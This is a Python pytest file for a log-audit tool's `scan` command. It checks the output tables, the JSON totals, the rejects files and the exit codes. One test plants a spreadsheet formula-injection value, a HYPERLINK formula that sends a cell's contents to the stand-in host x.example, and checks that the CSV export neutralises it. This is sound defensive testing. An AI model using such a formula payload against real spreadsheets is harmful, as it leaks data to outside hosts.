"""`limitaudit scan` from the command line: output, rejects files, exit codes."""

from __future__ import annotations

import json
from pathlib import Path

import polars as pl
import pytest
from polars.testing import assert_frame_equal
from typer.testing import CliRunner

from limitaudit.cli import app
from tests.conftest import LEDGER_COLUMNS, csv_lines, decision, write

# Wide enough that no table cell or summary line wraps.
ENV = {"COLUMNS": "250", "NO_COLOR": "1", "LIMITAUDIT_DUMP": ""}
REJECTS = pl.DataFrame(
    {
        "file": ["le-01/limit-engine.log", "le-01/limit-engine.log"],
        "line": [3, 5],
        "reason": [
            "neither a JSON object nor a logback record",
            "limit_before '1.005' has more than two decimals",
        ],
        "text": ["garbage", decision(user_id="3", limit_before=1.005)],
    },
    schema={"file": pl.String, "line": pl.Int64, "reason": pl.String, "text": pl.String},
)


@pytest.fixture
def dump(tmp_path: Path) -> Path:
    root = tmp_path / "dump"
    one, two = decision(user_id="1"), decision(user_id="2")
    write(
        root,
        "le-01/limit-engine.log",
        [one, two, "garbage", one, decision(user_id="3", limit_before=1.005), ""],
    )
    rows = [["chg-1", "1", "2026-03-14T02:12:05Z", "50000", "0", "risk_engine"]]
    write(root, "limit_history.csv.gz", csv_lines(LEDGER_COLUMNS, rows), compression="gzip")
    write(root, "README.txt", ["how this dump was taken"])
    return root


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args), env=ENV)
    return result.exit_code, result.stdout, result.stderr


def test_table_shows_files_and_the_totals_identity(dump: Path) -> None:
    code, out, err = invoke("scan", str(dump))
    assert code == 0, err
    assert (
        "lines 8 = records 3 + continuation 0 + header/comment 1 + blank 1"
        " + duplicates 1 + rejected 2" in out
    )
    assert "le-01/limit-engine.log" in out
    assert "limit_history.csv.gz" in out
    assert "README.txt" in out


def test_json_has_per_file_counts_and_totals(dump: Path) -> None:
    code, out, err = invoke("scan", str(dump), "--format", "json")
    assert code == 0, err
    data = json.loads(out)
    keys = ["path", "kind", "lines", "records", "duplicates", "rejected"]
    assert [tuple(f[k] for k in keys) for f in data["files"]] == [
        ("README.txt", "other", 0, 0, 0, 0),
        ("le-01/limit-engine.log", "json_log", 6, 2, 1, 2),
        ("limit_history.csv.gz", "ledger_csv", 2, 1, 0, 0),
    ]
    totals = data["totals"]
    assert totals == {
        "lines": 8,
        "records": 3,
        "continuation": 0,
        "meta": 1,
        "blank": 1,
        "duplicates": 1,
        "rejected": 2,
        "ignored": 0,
        "files": 3,
    }
    assert totals["lines"] == sum(
        totals[k] for k in ("records", "continuation", "meta", "blank", "duplicates", "rejected")
    )
    assert [f["kind"] for f in data["findings"]] == ["skipped"]


def test_rejects_to_csv(dump: Path, tmp_path: Path) -> None:
    out = tmp_path / "rejects.csv"
    code, _, err = invoke("scan", str(dump), "--rejects", str(out))
    assert code == 0, err
    assert "2 rejected line(s) written to" in err
    assert_frame_equal(pl.read_csv(out), REJECTS)


def test_rejects_csv_runs_no_formula_and_json_lines_keep_the_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
    root = tmp_path / "d"
    write(root, "le-01/limit-engine.log", [decision(user_id="1"), formula, "-1+2"])
    code, _, err = invoke("scan", str(root), "--rejects", str(tmp_path / "r.csv"))
    assert code == 0, err
    assert pl.read_csv(tmp_path / "r.csv")["text"].to_list() == ["'" + formula, "'-1+2"]
    code, _, err = invoke("scan", str(root), "--rejects", str(tmp_path / "r.jsonl"))
    assert code == 0, err
    assert pl.read_ndjson(tmp_path / "r.jsonl")["text"].to_list() == [formula, "-1+2"]


@pytest.mark.parametrize("suffix", [".jsonl", ".ndjson"])
def test_rejects_to_json_lines(dump: Path, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"rejects{suffix}"
    code, _, err = invoke("scan", str(dump), "--rejects", str(out), "--format", "json")
    assert code == 0, err
    assert_frame_equal(pl.read_ndjson(out), REJECTS)


def test_missing_path_exits_2_with_one_line(tmp_path: Path) -> None:
    code, out, err = invoke("scan", str(tmp_path / "nowhere"))
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1
    assert err.startswith("limitaudit: ")
    assert "no such file or directory" in err


def test_dump_with_nothing_readable_exits_2(tmp_path: Path) -> None:
    write(tmp_path, "README.txt", ["nothing to see"])
    write(tmp_path, "empty.log", b"")
    code, out, err = invoke("scan", str(tmp_path))
    assert code == 2
    assert out == ""
    assert err == "limitaudit: nothing in the dump is a risk-engine log or a ledger export\n"


def test_bad_time_zone_exits_2(dump: Path) -> None:
    code, out, err = invoke("scan", str(dump), "--tz", "Mars/Olympus_Mons")
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1
    assert "--tz Mars/Olympus_Mons" in err


def test_time_zone_changes_text_times(tmp_path: Path) -> None:
    line = (
        "2026-03-14 10:12:03.481 INFO  [t] [traceId=a] c.Logger - event=decision user_id=1"
        " limit_before=1 limit_after=0"
    )
    write(tmp_path, "le-01/limit-engine.log", [line])
    _, out, _ = invoke("scan", str(tmp_path), "--format", "json", "--tz", "UTC")
    data = json.loads(out)
    assert data["files"][0]["first"] == "2026-03-14T10:12:03.481Z"
    assert data["time_zone"] == "UTC"
